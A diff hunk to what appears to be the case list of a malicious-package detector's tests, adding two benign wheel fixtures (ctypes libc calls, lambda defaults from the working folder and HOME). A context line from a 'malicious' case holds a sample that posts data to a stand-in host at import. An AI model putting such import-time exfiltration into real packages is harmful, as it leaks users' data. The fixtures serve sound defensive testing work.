@@ -340,6 +340,15 @@ CASES = [
                            "        urllib.request.urlopen('http://collect.invalid/e', body)\n\n\n"
                            "client = Client()\nREADY = client.ready\n"),
            "malicious"),
+    _wheel("libc through ctypes at import for the page size and the process id", "libcinfo",
+           _init("libcinfo", "import ctypes, ctypes.util\n\n"
+                             "_libc = ctypes.CDLL(ctypes.util.find_library('c'))\n"
+                             "PAGE = _libc.getpagesize()\nPID = _libc.getpid()\n"), "benign"),
+    _wheel("lambda defaults made at import from the working folder and the environment",
+           "lambdacfg", _init("lambdacfg", "import os\n\n"
+                                           "root = lambda d=os.getcwd(): d\n"
+                                           "home = lambda h=os.environ.get('HOME', ''): h\n"),
+           "benign"),
     _wheel("namespace __path__ extended to a contrib folder of plain code", "pluginpath", {
         "pluginpath/__init__.py": (
             "import os, pkgutil\n__path__ = pkgutil.extend_path(__path__, __name__)\n"
